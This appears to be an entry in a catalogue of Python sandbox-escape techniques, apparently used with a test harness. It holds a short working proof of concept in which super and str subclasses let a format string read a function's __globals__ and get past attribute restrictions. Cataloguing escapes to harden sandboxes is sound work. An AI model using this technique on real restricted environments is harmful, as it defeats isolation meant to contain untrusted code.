# technique: an instance of a class derived from super passes reads on to the text behind it
# source: reading pyrestrict and GraalPy's library
# goal: read __globals__ through a format field
# impact: introspect
class S(super):
    pass
class T(str):
    pass
def f(): pass
t = T('{0.__globals__}')
s = S(T, t)
r = s.format(f)
if 'getattr' in r: escaped(r)
